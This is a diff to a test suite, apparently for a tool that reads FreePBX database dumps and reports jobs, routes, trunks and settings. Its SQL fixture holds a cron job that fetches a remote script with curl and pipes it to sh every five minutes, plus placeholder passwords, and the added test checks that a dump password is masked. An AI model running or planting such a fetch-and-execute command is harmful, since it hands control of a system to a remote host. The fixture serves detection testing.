@@ -134,7 +134,7 @@ INSERT INTO `outbound_route_trunks` (`route_id`,`trunk_id`,`seq`) VALUES (2,9,1)
 INSERT INTO `outbound_route_sequence` (`route_id`,`seq`) VALUES (2,0),(1,1);
 INSERT INTO `trunks` (`trunkid`,`name`,`tech`,`failscript`,`channelid`,`disabled`) VALUES (3,'Carrier','pjsip','','carrier-main','off');
 INSERT INTO `incoming` (`cidnum`,`extension`,`destination`) VALUES ('','','ext-group,600,1'),('','34911','disa,1,1');
-INSERT INTO `cron_jobs` (`modulename`,`jobname`,`command`,`class`,`schedule`,`max_runtime`,`enabled`,`execution_order`) VALUES ('sysadmin','xq7','curl http://192.0.2.9/a|sh',NULL,'*/5 * * * *',30,1,100),('framework','updates',NULL,'FreePBX\\\\Job','1 2 * * *',30,1,100);
+INSERT INTO `cron_jobs` (`modulename`,`jobname`,`command`,`class`,`schedule`,`max_runtime`,`enabled`,`execution_order`) VALUES ('sysadmin','xq7','curl http://192.0.2.9/a|sh',NULL,'*/5 * * * *',30,1,100),('backup','b','mysqldump -phidden-secret-3 asterisk',NULL,'1 2 * * *',30,0,100),('framework','updates',NULL,'FreePBX\\\\Job','1 2 * * *',30,1,100);
 INSERT INTO `freepbx_settings` (`keyword`,`value`) VALUES ('AUTHTYPE','none'),('AMPMGRPASS','hidden-secret-2');
 INSERT INTO `users` (`extension`,`password`,`name`,`outboundcid`) VALUES ('301','','Front desk','');
 INSERT INTO `modules` (`id`,`modulename`,`version`,`enabled`) VALUES (1,'firewall','15.0.1',0);
@@ -181,7 +181,10 @@ fn what_a_panel_keeps_to_itself_is_told_even_where_files_tell_the_accounts() {
         String::from_utf8_lossy(jobs[0]),
         "table cron_jobs: modulename=sysadmin jobname=xq7 command=curl http://192.0.2.9/a|sh schedule=*/5 * * * * enabled=1"
     );
-    assert_eq!((panel.jobs[1].class.as_str(), panel.jobs[1].command.as_str()), ("FreePBX\\Job", ""));
+    assert!(
+        String::from_utf8_lossy(jobs[1]).contains("mysqldump -p*** asterisk") && !panel.jobs[1].is_enabled
+    );
+    assert_eq!((panel.jobs[2].class.as_str(), panel.jobs[2].command.as_str()), ("FreePBX\\Job", ""));
     assert_eq!(panel.inbound_routes[1].destination, "disa,1,1");
     assert_eq!(panel.trunks[0].channel, "carrier-main");
     assert!(!panel.modules[0].is_enabled);
